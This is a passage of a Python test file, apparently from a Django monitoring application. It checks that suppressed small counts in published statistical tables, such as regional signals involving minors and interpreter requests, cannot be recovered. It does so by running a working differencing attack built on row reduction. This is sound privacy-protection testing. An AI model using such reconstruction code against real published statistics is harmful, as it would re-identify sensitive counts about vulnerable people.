    values = {next(iter(equation)) for equation, _where in known if len(equation) == 1}

    def unknown_part(equation: dict) -> dict:
        return {key: Fraction(c) for key, c in equation.items() if key not in values}

    basis: dict = {}  # reduced row echelon form: {pivot: row with 1 at the pivot}
    for equation in [equation for equation, _where in known] + identities:
        row = _reduced(unknown_part(equation), basis)
        if not row:
            continue
        pivot = min(row)
        row = {key: value / row[pivot] for key, value in row.items()}
        for other in basis.values():
            if other.get(pivot):
                factor = other[pivot]
                for key, value in row.items():
                    other[key] = other.get(key, 0) - factor * value
                    if not other[key]:
                        del other[key]
        basis[pivot] = row
    return [where for equation, where in hidden if not _reduced(unknown_part(equation), basis)]


def _reduced(row: dict, basis: dict) -> dict:
    row = dict(row)
    for pivot, base in basis.items():
        factor = row.get(pivot)
        if factor:
            for key, value in base.items():
                row[key] = row.get(key, 0) - factor * value
                if not row[key]:
                    del row[key]
    return row


def test_04_no_hidden_figure_can_be_worked_out_from_all_the_monitor_publishes(reference_data):
    from datetime import datetime

    from regions.models import Region
    from signals.models import InterpreterRequest, Signal
    from tests.factories import SignalFactory
    from tests.helpers import member_of, signed_in

    year = timezone.localdate().year - 1
    zeeland = Region.objects.filter(name__icontains="zeeland").first()
    others = list(Region.objects.exclude(pk=zeeland.pk).order_by("code")[:3])
    plan = [
        # Zeeland's three signals on the 1st to the 5th of November, and a few more in spring.
        *[(zeeland, 11, day, day % 2 == 0) for day in (1, 3, 5)],
        *[(zeeland, 3, day, False) for day in range(1, 8)],
        # A busy region every month, a quieter one, and one with a single signal in November.
        *[(others[0], month, day, day < 3) for month in range(1, 13) for day in range(1, 12)],
        *[(others[1], month, 10, False) for month in (2, 5, 11) for _ in range(2)],
        (others[2], 11, 20, True),
    ]
    for region, month, day, minor in plan:
        signal = SignalFactory(region=region, status=Signal.Status.TRIAGED, involves_minor=minor)
        moment = timezone.make_aware(datetime(year, month, day, 12))
        Signal.objects.filter(pk=signal.pk).update(created_at=moment)
    # Interpreter requests, a table of their own: a rare language in November alone, others
    # spread over the year (a table added to the monitor must hold up against the attack too).
    asked = [
        *[("ar", 11, day) for day in (2, 4)],
        *[("pl", month, 5) for month in range(1, 13) for _ in range(3)],
        *[("ro", month, 8) for month in (3, 11) for _ in range(2)],
    ]
    for language, month, day in asked:
        request = InterpreterRequest.objects.create(signal=signal, language=language, mode="phone")
        moment = timezone.make_aware(datetime(year, month, day, 12))
        InterpreterRequest.objects.filter(pk=request.pk).update(requested_at=moment)

    ministry = OrganisationFactory(kind=Organisation.Kind.MINISTRY)
    analyst = signed_in(member_of(ministry, Role.ANALYST))

    # Days cannot be chosen (November 1-5 against November gave Zeeland's 3 away; two periods a
    # day apart, 35 against 34, one signal): a start and an end are not read.
    for days in [(f"{year}-11-01", f"{year}-11-05"), (f"{year}-11-01", f"{year}-11-30")]:
        chosen = analyst.get("/pro/monitor/export/1.csv", dict(zip(("start", "end"), days)))
        assert chosen.content == analyst.get("/pro/monitor/export/1.csv").content

    from monitor.selectors import periods_of

    published = {period.key: _published(analyst, period.key) for period in periods_of(year)}
    november = dict(published[f"{year}-11"][1][0])
    assert november[zeeland.name] == "<5"
    assert _attack(published, year) == []

    # The attack has teeth: with each table suppressed on its own, as before, it solves cells.
    from django.core.cache import cache

    from monitor import suppression

    for key in cache._cache.get_client().scan_iter("*monitor:suppressed*"):
        cache._cache.get_client().delete(key)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(suppression._Linked, "linear_pass", lambda self: False)
        alone = {period.key: _tables_of(period) for period in periods_of(year)}
    assert _attack(alone, year)
    for key in cache._cache.get_client().scan_iter("*monitor:suppressed*"):
        cache._cache.get_client().delete(key)
